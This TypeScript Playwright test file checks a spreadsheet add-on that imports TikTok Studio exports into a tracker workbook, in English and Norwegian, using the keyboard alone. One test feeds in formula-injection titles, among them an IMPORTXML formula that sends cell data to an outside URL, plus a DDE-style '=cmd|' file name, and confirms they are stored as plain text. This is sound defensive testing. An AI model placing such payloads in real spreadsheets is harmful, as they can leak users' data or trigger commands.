import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { StageRequest } from '../../src/messages';
import type { TrackerNames } from '../../src/templates/tracker/index';
import { tabNames, trackerTabs } from '../../src/templates/tracker/tabs';
import type { SavedWorkbook } from '../../workbench/saved';
import { csv, file, videoRow, wholeExport, zip } from '../studio/files';
import { account } from '../studio/wholeExport';
import { expectTracker } from '../templates/tracker/expectTracker';
import { rowsOfExport } from '../templates/tracker/fromExport';
import { done, openPages, type PageBench, spoken } from '../workbench/page-fixture';
import { focusOn, press, says, tabTo } from './keyboard';
import { isSound } from './plans';
import { choose, headless, openFile, openItem, pick, saved } from './tracker';

/** Files of TikTok Studio on their way into a tracker, in the page, by keyboard alone. */
let bench: PageBench;
beforeAll(async () => {
  bench = await openPages();
});
afterAll(() => bench.close());

const words = {
  en: {
    found: '2025-11-17 – 2026-03-01',
    written: 'Everything is written.',
    added: (name: string, rows: number) => `In “${name}”: ${rows} new rows.`,
    before: '14 as before',
    kept: '1 cell was changed by hand and stays as it is:',
    keptCell: 'here 111, in the files 90,000',
    updated: '1 updated, 13 as before',
    cancelled: 'Cancelled. Nothing has changed.',
    none: 'No table was written.',
    foreign: 'Facebook or Instagram',
    nothing: 'None of the files holds a table that can be imported.',
    gone: 'There is no connection to Google. Check the network and try again. Nothing has changed.',
    broken: '1 cell can’t be read.',
    isText: '“900” is text, not a number.',
    anew: /^\d+ formulas were written anew\.$/,
    setUp: '1 tab is set up.',
    roster: 'Roster',
    videos: 'Videos 2',
  },
  nb: {
    found: '17.11.2025 – 01.03.2026',
    written: 'Alt er skrevet.',
    added: (name: string, rows: number) => `Står i «${name}»: ${rows} nye rader.`,
    before: '14 uendret',
    kept: '1 celle er endret for hånd og blir stående:',
    keptCell: 'her 111, i filene 90 000',
    updated: '1 oppdatert, 13 uendret',
    cancelled: 'Avbrutt. Ingenting er endret.',
    none: 'Ingen tabell er skrevet.',
    foreign: 'Facebook eller Instagram',
    nothing: 'Ingen av filene har en tabell som kan importeres.',
    gone: 'Det er ingen forbindelse til Google. Sjekk nettet og prøv igjen. Ingenting er endret.',
    broken: '1 celle kan ikke leses.',
    isText: '«900» er tekst, ikke et tall.',
    anew: /^\d+ formler er skrevet på nytt\.$/,
    setUp: '1 fane er satt opp.',
    roster: 'Skapere',
    videos: 'Videoer 2',
  },
} as const;

/** A tracker takes a while to be set up and calculated. */
const LONG = 240_000;

interface Runner {
  withSuccessHandler(handler: (reply: unknown) => void): Runner;
  withFailureHandler(handler: (error: Error) => void): Runner;
  stageRows(request: StageRequest): void;
}

/** Lets the line to the server break, or wait, when rows of an import are to go over it. */
async function hold(frame: Frame, how: 'break' | 'wait'): Promise<void> {
  await frame.evaluate((what) => {
    const line = globalThis as unknown as { google: { script: { run: Runner } }; real?: Runner; letGo: () => void };
    line.real ??= line.google.script.run;
    const run = line.real;
    line.google.script.run = new Proxy(run, {
      get(real, name) {
        if (name !== 'withSuccessHandler') return Reflect.get(real, name);
        return (success: (reply: unknown) => void) => ({
          withFailureHandler: (failure: (error: Error) => void) => {
            const next = real.withSuccessHandler(success).withFailureHandler(failure);
            return new Proxy(next, {
              get(whole, called) {
                if (called !== 'stageRows') return Reflect.get(whole, called);
                return (request: StageRequest) => {
                  if (what === 'break') failure(new Error('NetworkError: Connection failure due to HTTP 0'));
                  else line.letGo = () => whole.stageRows(request);
                };
              },
            });
          },
        });
      },
    });
  }, how);
}

const sheetsOf = ({ workbook }: SavedWorkbook) => workbook.sheets?.map(({ name }) => name) ?? [];

async function fresh(language: 'en' | 'nb'): Promise<Page> {
  const page = await bench.fresh(language);
  // Dates without a year are told by the day of the import.
  // From the beginning on: the browser has to be told before it opens a dialog for files.
  page.on('filechooser', () => undefined);
  await page.clock.setFixedTime(new Date(`${account.today}T12:00:00`));
  return page;
}

describe.each(['en', 'nb'] as const)('an export and a tracker: %s', (language) => {
  const say = words[language];
  const names = tabNames();
  const all = wholeExport(language);
  /** As the first test leaves it. */
  let tracker: SavedWorkbook;

  it('files become a new tracker, and the same files change nothing', { timeout: LONG }, async () => {
    const page = await fresh(language);
    page.setDefaultTimeout(LONG);
    const frame = await openItem(page, 'import');
    await isSound(frame);
    await choose(page, frame, all);
    await says(frame, '.table', say.found);
    await isSound(frame);
    await pick(page, frame, 'target-new-tracker');
    await press(page, frame, '#write-import');
    await focusOn(frame, '#cancel-import');
    await frame.waitForSelector('#start-over');
    await says(frame, '#import-outcome', say.written);
    await focusOn(frame, '#import-outcome');
    await says(frame, '.steps', say.added(say.videos, account.videos));
    await says(frame, '.steps', say.added(names.daily[language], account.days));
    await isSound(frame);

    tracker = await saved(page);
    const usual = Object.fromEntries(trackerTabs.map((tab) => [tab, names[tab][language]])) as TrackerNames;
    // The sample workbook has tabs of these names already.
    const called = { ...usual, videos: `${usual.videos} 2`, rates: `${usual.rates} 2` };
    expectTracker(headless(tracker, language), rowsOfExport(all), language, called);
    await press(page, frame, '#start-over');
    await focusOn(frame, '#choose-files');
    await choose(page, frame, all);
    await says(frame, '.table', say.before);
    await press(page, frame, '#write-import');
    await says(frame, '#import-outcome', say.written);
    await says(frame, '.steps', say.before);
    expect((await saved(page)).workbook.sheets).toEqual(tracker.workbook.sheets);
    await done(page);
  });

  it('what was changed by hand is told and stays, unless the user says otherwise', { timeout: LONG }, async () => {
    const page = await fresh(language);
    page.setDefaultTimeout(LONG);
    const book = headless(tracker, language);
    const views = book.values(say.videos, 'G2:G15').flat().indexOf(90_000) + 2;
    book.setCell(say.videos, `G${views}`, '111');
    await openFile(page, book.save());
    const frame = await openItem(page, 'import');
    await choose(page, frame, [all[3] as (typeof all)[number]]);
    await says(frame, '.table', say.kept);
    await says(frame, '.table', `G${views}: ${say.keptCell}`);
    await isSound(frame);
    await press(page, frame, '#write-import');
    await says(frame, '#import-outcome', say.written);
    await says(frame, '.steps', say.kept);
    expect(headless(await saved(page), language).cell(say.videos, `G${views}`).value).toBe(111);

    await press(page, frame, '#start-over');
    await choose(page, frame, [all[3] as (typeof all)[number]]);
    await tabTo(page, frame, '#replace-videos');
    await page.keyboard.press('Space');
    await says(frame, '.table', say.updated);
    await press(page, frame, '#write-import');
    await says(frame, '#import-outcome', say.written);
    await says(frame, '.steps', say.updated);
    expect(headless(await saved(page), language).cell(say.videos, `G${views}`).value).toBe(90_000);
    await done(page);
  });

  it(
    'cells that can’t be read are listed, shown and computed anew once they are mended',
    { timeout: LONG },
    async () => {
      const page = await fresh(language);
      page.setDefaultTimeout(LONG);
      const book = headless(tracker, language);
      book.setCell(say.videos, 'G4', "'900");
      await openFile(page, book.save());
      const frame = await openItem(page, 'check');
      await says(frame, '#found-cells', say.broken);
      await says(frame, '.steps', say.isText);
      await isSound(frame);
      await press(page, frame, '.steps button');
      await spoken(page, 'G4: 900');
      await press(page, frame, '.back');
      await focusOn(frame, '#go-check');
      await press(page, frame, '#recalculate');
      await frame.waitForFunction(() => document.querySelector('.said[aria-live]')?.textContent !== '');
      expect(await frame.textContent('.said[aria-live]')).toMatch(say.anew);
      await isSound(frame);
      await done(page);
    },
  );

  it('a roster is set up beside what is there', async () => {
    const page = await fresh(language);
    const frame = await openItem(page, 'setUp');
    await frame.waitForSelector('#want-roster');
    await isSound(frame);
    await tabTo(page, frame, '#want-tracker');
    await page.keyboard.press('Space');
    await tabTo(page, frame, '#want-roster');
    await page.keyboard.press('Space');
    await press(page, frame, '#set-up-tracker');
    await says(frame, 'footer .said', say.setUp);
    expect(sheetsOf(await saved(page))).toContain(say.roster);
    await isSound(frame);
    await done(page);
  });

  it('a file of another platform is told apart, and nothing can be written', async () => {
    const page = await fresh(language);
    const frame = await openItem(page, 'import');
    await choose(page, frame, [file('Viewers.csv', 'Viewers;\nDate;Primary\n2025-10-31T00:00:00;1148\n')]);
    await says(frame, 'details li', say.foreign);
    await says(frame, '.said.problem', say.nothing);
    expect(await frame.locator('#write-import').count()).toBe(0);
    await isSound(frame);
    await press(page, frame, '.item button');
    await focusOn(frame, '#choose-files');
    await done(page);
  });

  it('files that are dropped are taken like those that are chosen', async () => {
    const page = await fresh(language);
    const frame = await openItem(page, 'import');
    const given = all.map(({ name, bytes }) => ({ name, bytes: [...bytes] }));
    const dataTransfer = await frame.evaluateHandle((list) => {
      const transfer = new DataTransfer();
      for (const { name, bytes } of list) transfer.items.add(new File([new Uint8Array(bytes)], name));
      return transfer;
    }, given);
    await frame.dispatchEvent('.drop', 'dragover', { dataTransfer });
    await frame.waitForSelector('.drop.over');
    await frame.dispatchEvent('.drop', 'drop', { dataTransfer });
    await says(frame, '.table', say.found);
    expect(await frame.locator('.table').count()).toBe(6);
    await done(page);
  });

  it('new sheets hold texts as texts, whatever they begin with', async () => {
    const page = await fresh(language);
    const frame = await openItem(page, 'import');
    const hostile = [
      '=1+1',
      '+1',
      '-1',
      '@SUM(1)',
      '=IMPORTXML("https://example.com/?"&A2)',
      '\t=1',
      '=HYPERLINK("x")',
    ];
    const rows = hostile.map((title, i) => videoRow(language, '2026-03-14', title, '2026-02-01', { serial: i + 1 }));
    await choose(page, frame, [zip('Content_=cmd|x.zip', [csv('videos', rows, 'Content.csv')])]);
    await press(page, frame, '#write-import');
    await says(frame, '#import-outcome', say.written);
    const book = await saved(page);
    const name = sheetsOf(book).find((one) => one.includes('=cmd')) as string;
    const titles = headless(book, language)
      .values(name, `B2:B${hostile.length + 1}`)
      .flat();
    expect([...titles].sort()).toEqual([...hostile].sort());
    await done(page);
  });

  it('a broken line and Cancel leave everything as it was', async () => {
    const page = await fresh(language);
    const frame = await openItem(page, 'import');
    const before = (await saved(page)).workbook.sheets;
    await hold(frame, 'break');
    await choose(page, frame, [all[3] as (typeof all)[number]]);
    await press(page, frame, '#write-import');
    await says(frame, '#import-outcome', say.none);
    await says(frame, '.steps', say.gone);
    await isSound(frame);
    expect((await saved(page)).workbook.sheets).toEqual(before);

    await hold(frame, 'wait');
    await press(page, frame, '#write-import');
    await frame.waitForFunction(() => 'letGo' in globalThis);
    await press(page, frame, '#cancel-import');
    await frame.evaluate(() => (globalThis as unknown as { letGo: () => void }).letGo());
    await says(frame, '.steps', say.cancelled);
    expect((await saved(page)).workbook.sheets).toEqual(before);
    await done(page);
  });
});
